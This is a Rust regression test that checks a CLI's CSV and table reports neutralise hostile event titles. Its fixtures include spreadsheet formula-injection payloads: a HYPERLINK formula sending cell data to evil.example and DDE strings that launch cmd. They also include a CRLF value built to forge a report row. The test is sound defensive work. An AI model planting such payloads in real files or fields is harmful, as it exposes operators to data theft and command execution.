//! Issue 28, item 5: what members write reaches the operator's screen and spreadsheet.
//! `jars report --format csv` wrote titles such as `=HYPERLINK(…)` as they were (formula
//! injection when the royalty sheet is opened), and a title holding `\r\n` forged a row of the
//! table output of `jars report` and `jars event list`.

use super::*;
use crate::cli::{jars, stdout};

/// A listener joins and leaves `event`, so the report has a line for it.
async fn one_session(server: &TestServer, event: &str, client_id: &str) {
    let mount = format!("/{event}");
    let join = crate::support::callback_body(&[
        ("action", "listener_add"),
        ("server", "x"),
        ("port", "1"),
        ("client", client_id),
        ("mount", &mount),
        ("user", ""),
        ("pass", ""),
        ("ip", "192.0.2.10"),
    ]);
    assert!(callback_allows(server, join).await);
    let leave = crate::support::callback_body(&[
        ("action", "listener_remove"),
        ("server", "x"),
        ("port", "1"),
        ("client", client_id),
        ("mount", &mount),
        ("user", ""),
        ("pass", ""),
        ("duration", "60"),
        ("ip", "192.0.2.10"),
    ]);
    callback_allows(server, leave).await;
}

#[tokio::test]
async fn hostile_titles_reach_the_sheet_as_text_and_the_table_as_one_row() {
    let server = TestServer::start("").await;
    server.add_user("carol", "carol-password", false);
    let carol = server.login("carol", "carol-password").await;
    // Titles go through Tornado's cleaning, which keeps `\t`, `\n` and `\r` inside a value.
    let titles = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"royalties\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "Night\r\n00000000-0000-4000-8000-000000000000,FORGED,999",
    ];
    let mut events = Vec::new();
    for (i, title) in titles.iter().enumerate() {
        let event = server.create_event(&carol, title, false).await;
        one_session(&server, &event, &i.to_string()).await;
        events.push(event);
    }
    server.state.hooks.sessions.flush().await;
    let dir = server.dir.path().to_path_buf();
    let data = dir.to_str().unwrap();

    let csv = jars(&dir, &["--data-dir", data, "report", "--format", "csv"]);
    assert!(csv.status.success(), "{csv:?}");
    let text = stdout(&csv);
    // One header, one record per event: the `\r\n` stays inside its quoted cell.
    let records = parse_csv(&text);
    assert_eq!(records.len(), 1 + titles.len(), "{text}");
    for record in &records[1..] {
        let title = &record[1];
        assert!(
            !title.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a formula cell: {title:?}"
        );
        // A formula title comes behind a `'`; the rest as they are.
        assert!(
            titles.iter().any(|t| title == &format!("'{t}"))
                || (title.starts_with("Night") && title == titles[4]),
            "{title:?}"
        );
    }

    for args in [
        &["--data-dir", data, "report"][..],
        &["--data-dir", data, "event", "list"][..],
    ] {
        let out = jars(&dir, args);
        assert!(out.status.success(), "{args:?}: {out:?}");
        let text = stdout(&out);
        assert!(!text.contains('\r'), "{args:?}: {text:?}");
        assert_eq!(
            text.lines().count(),
            1 + titles.len(),
            "{args:?}: a forged row in\n{text}"
        );
        assert!(
            text.contains("Night\\r\\n00000000-0000-4000-8000-000000000000,FORGED,999"),
            "{args:?}: {text}"
        );
    }
}

/// RFC 4180 records: quoted fields may hold commas, quotes (doubled) and line breaks.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    records
}
